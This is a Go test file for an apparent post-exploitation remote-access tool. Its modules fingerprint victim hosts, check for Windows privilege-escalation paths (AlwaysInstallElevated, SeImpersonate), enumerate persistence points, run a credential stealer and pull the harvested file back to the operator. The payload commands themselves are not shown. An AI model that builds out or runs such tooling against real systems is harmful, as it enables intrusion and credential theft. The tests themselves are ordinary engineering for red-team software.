package main

import (
	"encoding/base64"
	"fmt"
	"os"
	"strings"
	"testing"
	"time"
)

func TestClassifyPrivilege(t *testing.T) {
	cases := []struct {
		raw  string
		want string
	}{
		{"Access is denied.\r\n", "USER"},
		{"ACCESS IS DENIED", "USER"},
		{"Accs refus.\r\n", "USER"},
		{"There are no entries in the list.\r\n", "ADMINISTRATOR"},
		{"", "ADMINISTRATOR"},
	}
	for _, c := range cases {
		if got := classifyPrivilege(c.raw); got != c.want {
			t.Errorf("classifyPrivilege(%q) = %q, want %q", c.raw, got, c.want)
		}
	}
}

func TestInstallElevatedVulnerable(t *testing.T) {
	both := "AlwaysInstallElevated    REG_DWORD    0x1\r\nAlwaysInstallElevated    REG_DWORD    0x1\r\n"
	if !installElevatedVulnerable(both) {
		t.Error("two 0x1 values should be vulnerable")
	}
	one := "AlwaysInstallElevated    REG_DWORD    0x1\r\nAlwaysInstallElevated    REG_DWORD    0x0\r\n"
	if installElevatedVulnerable(one) {
		t.Error("a single 0x1 value should not be vulnerable")
	}
	if installElevatedVulnerable("The system was unable to find the specified registry key") {
		t.Error("missing keys should not be vulnerable")
	}
}

func TestSeImpersonateExploitable(t *testing.T) {
	if !seImpersonateExploitable("SeImpersonatePrivilege   Impersonate a client   Enabled\r\n") {
		t.Error("enabled SeImpersonate should be exploitable")
	}
	if seImpersonateExploitable("SeImpersonatePrivilege   Impersonate a client   Disabled\r\n") {
		t.Error("disabled SeImpersonate should not be exploitable")
	}
	if seImpersonateExploitable("SeDebugPrivilege   Debug programs   Enabled\r\n") {
		t.Error("a different enabled privilege should not be exploitable")
	}
}

func TestEncodePowershell(t *testing.T) {
	got, err := base64.StdEncoding.DecodeString(encodePowershell("ab"))
	if err != nil {
		t.Fatalf("decode: %v", err)
	}
	want := []byte{0x61, 0x00, 0x62, 0x00}
	if string(got) != string(want) {
		t.Fatalf("encodePowershell(\"ab\") decodes to % x, want % x", got, want)
	}
}

func TestSysinfoModule(t *testing.T) {
	r := newScriptedRemote(t, map[string]string{
		cmdHostname:   "WORKSTATION-07\r\n",
		cmdWhoami:     "corp\\jdoe\r\n",
		cmdNetSession: "Access is denied.\r\n",
		cmdOSInfo:     "OS Name: Microsoft Windows 10 Pro\r\nOS Version: 10.0.19045\r\n",
		cmdAntivirus:  "Windows Defender\r\n",
	})

	f, err := (&sysinfoModule{}).Run(r.sess)
	if err != nil {
		t.Fatalf("Run: %v", err)
	}

	basic := findSection(t, f, "Basic Information")
	wantBasic := map[string]string{"Hostname": "WORKSTATION-07", "User": `corp\jdoe`}
	for _, e := range basic.Entries {
		if want, ok := wantBasic[e.Label]; ok && e.Value != want {
			t.Errorf("%s = %q, want %q", e.Label, e.Value, want)
		}
	}

	priv := findSection(t, f, "Privilege Level")
	if len(priv.Entries) != 1 || priv.Entries[0].Value != "USER" {
		t.Errorf("privilege section = %+v, want single USER entry", priv.Entries)
	}

	av := findSection(t, f, "Antivirus")
	if len(av.Entries) != 1 || av.Entries[0].Value != "Windows Defender" {
		t.Errorf("antivirus section = %+v", av.Entries)
	}
}

func TestSysinfoElevatedBranch(t *testing.T) {
	r := newScriptedRemote(t, map[string]string{
		cmdNetSession: "There are no entries in the list.\r\n",
	})

	f, err := (&sysinfoModule{}).Run(r.sess)
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	priv := findSection(t, f, "Privilege Level")
	if len(priv.Entries) != 1 || priv.Entries[0].Value != "ADMINISTRATOR" {
		t.Errorf("privilege section = %+v, want single ADMINISTRATOR entry", priv.Entries)
	}
}

func TestPersistModuleCapsRunKeys(t *testing.T) {
	var reply strings.Builder
	for i := 0; i < 20; i++ {
		fmt.Fprintf(&reply, "    Entry%02d    REG_SZ    C:\\tools\\entry%02d.exe\r\n", i, i)
	}
	reply.WriteString("    Other    REG_DWORD    0x0\r\n")

	r := newScriptedRemote(t, map[string]string{
		cmdRunKeys: reply.String(),
	})

	f, err := (&persistModule{}).Run(r.sess)
	if err != nil {
		t.Fatalf("Run: %v", err)
	}

	runKeys := findSection(t, f, "Registry Run Keys (HKCU)")
	if len(runKeys.Entries) != maxRunKeyEntries {
		t.Fatalf("run key entries = %d, want cap %d", len(runKeys.Entries), maxRunKeyEntries)
	}
	for _, e := range runKeys.Entries {
		if !strings.Contains(e.Value, "REG_SZ") {
			t.Errorf("non-REG_SZ line survived filtering: %q", e.Value)
		}
	}

	startup := findSection(t, f, "Startup Folder")
	if len(startup.Entries) != 1 || startup.Entries[0].Value != "(Empty)" {
		t.Errorf("empty startup folder = %+v, want (Empty) placeholder", startup.Entries)
	}
}

func TestAutopwnVerdicts(t *testing.T) {
	r := newScriptedRemote(t, map[string]string{
		cmdInstallElevated: "AlwaysInstallElevated    REG_DWORD    0x1\r\nAlwaysInstallElevated    REG_DWORD    0x1\r\n",
		cmdSeImpersonate:   "SeImpersonatePrivilege   Impersonate a client after authentication   Enabled\r\n",
	})

	f, err := (&autopwnModule{}).Run(r.sess)
	if err != nil {
		t.Fatalf("Run: %v", err)
	}

	aie := findSection(t, f, "AlwaysInstallElevated")
	if len(aie.Entries) != 1 || aie.Entries[0].Tag != "VULNERABLE" {
		t.Errorf("AlwaysInstallElevated = %+v, want VULNERABLE tag", aie.Entries)
	}
	imp := findSection(t, f, "SeImpersonate")
	if len(imp.Entries) != 1 || imp.Entries[0].Tag != "EXPLOIT" {
		t.Errorf("SeImpersonate = %+v, want EXPLOIT tag", imp.Entries)
	}
}

func TestAutopwnCleanHost(t *testing.T) {
	r := newScriptedRemote(t, map[string]string{
		cmdInstallElevated: "The system was unable to find the specified registry key or value.\r\n",
		cmdSeImpersonate:   "SeImpersonatePrivilege   Impersonate a client after authentication   Disabled\r\n",
	})

	f, err := (&autopwnModule{}).Run(r.sess)
	if err != nil {
		t.Fatalf("Run: %v", err)
	}

	aie := findSection(t, f, "AlwaysInstallElevated")
	if len(aie.Entries) != 1 || aie.Entries[0].Value != "Not vulnerable" {
		t.Errorf("AlwaysInstallElevated = %+v", aie.Entries)
	}
	imp := findSection(t, f, "SeImpersonate")
	if len(imp.Entries) != 1 || imp.Entries[0].Value != "Not available" {
		t.Errorf("SeImpersonate = %+v", imp.Entries)
	}
}

func TestNetworkModuleCapsRows(t *testing.T) {
	var reply strings.Builder
	for i := 0; i < 30; i++ {
		fmt.Fprintf(&reply, "  TCP    10.0.0.5:49%03d   93.184.216.34:443   ESTABLISHED   4312\r\n", i)
	}

	r := newScriptedRemote(t, map[string]string{
		cmdNetstat: reply.String(),
	})

	f, err := (&networkModule{}).Run(r.sess)
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	conns := findSection(t, f, "Active Connections")
	if len(conns.Entries) != maxConnectionRows {
		t.Fatalf("connection rows = %d, want cap %d", len(conns.Entries), maxConnectionRows)
	}
}

func TestStealerChainsIntoTransfer(t *testing.T) {
	payload := []byte("admin:hunter2\nsvc_backup:correct horse\n")
	r := newScriptedRemote(t, map[string]string{
		cmdStealer: "Harvested 2 credential sets\r\nSaved to: " + stealerOutputPath + "\r\n",
		existsCommand(stealerOutputPath):  "EXISTS\r\n",
		sizeCommand(stealerOutputPath):    fmt.Sprintf("%d\r\n", len(payload)),
		contentCommand(stealerOutputPath): base64.StdEncoding.EncodeToString(payload) + "\r\n",
	})

	db := newTestDatabase(t)
	m := &stealerModule{xfer: NewTransferService(db, t.TempDir())}

	f, err := m.Run(r.sess)
	if err != nil {
		t.Fatalf("Run: %v", err)
	}

	output := findSection(t, f, "Stealer Output")
	if len(output.Entries) != 2 {
		t.Errorf("stealer output = %+v, want 2 lines", output.Entries)
	}

	harvest := findSection(t, f, "Harvested File")
	var saved string
	for _, e := range harvest.Entries {
		if e.Tag == "FAILED" {
			t.Fatalf("harvest failed: %s", e.Value)
		}
		if e.Label == "Saved" {
			saved = e.Value
		}
	}
	if saved == "" {
		t.Fatalf("harvest section has no Saved entry: %+v", harvest.Entries)
	}
	data, err := os.ReadFile(saved)
	if err != nil {
		t.Fatalf("read harvested artifact: %v", err)
	}
	if string(data) != string(payload) {
		t.Error("harvested artifact differs from the transferred payload")
	}

	// The chain issues the stealer command plus the three transfer steps.
	if cmds := r.commands(); len(cmds) != 4 || cmds[0] != cmdStealer {
		t.Fatalf("remote saw commands %v", cmds)
	}

	transfers, err := db.RecentTransfers(10)
	if err != nil {
		t.Fatalf("RecentTransfers: %v", err)
	}
	if len(transfers) != 1 || transfers[0].RemotePath != stealerOutputPath {
		t.Fatalf("transfer history = %+v", transfers)
	}
}

func TestStealerNoChainWithoutMarker(t *testing.T) {
	r := newScriptedRemote(t, map[string]string{
		cmdStealer: "Harvest failed: no browsers found\r\n",
	})

	m := &stealerModule{xfer: NewTransferService(newTestDatabase(t), t.TempDir())}
	f, err := m.Run(r.sess)
	if err != nil {
		t.Fatalf("Run: %v", err)
	}

	for _, sec := range f.Sections {
		if sec.Title == "Harvested File" {
			t.Fatal("transfer chained without the Saved to: marker")
		}
	}
	if cmds := r.commands(); len(cmds) != 1 {
		t.Fatalf("remote saw commands %v, want only the stealer command", cmds)
	}
}

func TestDumpMergesSubModuleSections(t *testing.T) {
	r := newScriptedRemote(t, map[string]string{
		cmdHostname:   "WORKSTATION-07\r\n",
		cmdNetSession: "Access is denied.\r\n",
		cmdStealer:    "Harvest failed: no browsers found\r\n",
		cmdRunKeys:    "    Updater    REG_SZ    C:\\tools\\updater.exe\r\n",
		cmdPrivileges: "SeChangeNotifyPrivilege   Bypass traverse checking   Enabled\r\n",
	})

	stealer := &stealerModule{xfer: NewTransferService(newTestDatabase(t), t.TempDir())}
	f, err := (&dumpModule{stealer: stealer}).Run(r.sess)
	if err != nil {
		t.Fatalf("Run: %v", err)
	}

	want := []string{
		"Basic Information",
		"Privilege Level",
		"Operating System",
		"Antivirus",
		"Stealer Output",
		"Registry Run Keys (HKCU)",
		"Startup Folder",
		"Privileges",
		"AlwaysInstallElevated",
	}
	if len(f.Sections) != len(want) {
		t.Fatalf("dump produced %d sections, want %d: %+v", len(f.Sections), len(want), f.Sections)
	}
	for i, title := range want {
		if f.Sections[i].Title != title {
			t.Errorf("section %d = %q, want %q", i, f.Sections[i].Title, title)
		}
	}
}

func TestDispatcherUnknownModule(t *testing.T) {
	db := newTestDatabase(t)
	d := NewDispatcher(db, NewTransferService(db, t.TempDir()))

	conn := &fakeConn{}
	sess := &Session{ID: 7, Conn: conn, Created: time.Now()}

	if _, err := d.Run("nonexistent", sess); err == nil {
		t.Fatal("unknown module name returned nil error")
	}
	if got := conn.writes(); got != 0 {
		t.Errorf("unknown module performed %d channel writes, want 0", got)
	}
}

func TestDispatcherRecordsCommand(t *testing.T) {
	db := newTestDatabase(t)
	d := NewDispatcher(db, NewTransferService(db, t.TempDir()))

	r := newScriptedRemote(t, map[string]string{})
	if _, err := d.Run("network", r.sess); err != nil {
		t.Fatalf("Run: %v", err)
	}

	cmds, err := db.RecentCommands(10)
	if err != nil {
		t.Fatalf("RecentCommands: %v", err)
	}
	if len(cmds) != 1 || cmds[0].Command != "run network" {
		t.Fatalf("history = %+v, want single 'run network' record", cmds)
	}
}

func TestDispatcherModulesSorted(t *testing.T) {
	db := newTestDatabase(t)
	d := NewDispatcher(db, NewTransferService(db, t.TempDir()))

	mods := d.Modules()
	if len(mods) != 9 {
		t.Fatalf("registered %d modules, want 9", len(mods))
	}
	for i := 1; i < len(mods); i++ {
		if mods[i-1].Name() >= mods[i].Name() {
			t.Fatalf("modules out of order: %s before %s", mods[i-1].Name(), mods[i].Name())
		}
	}
}
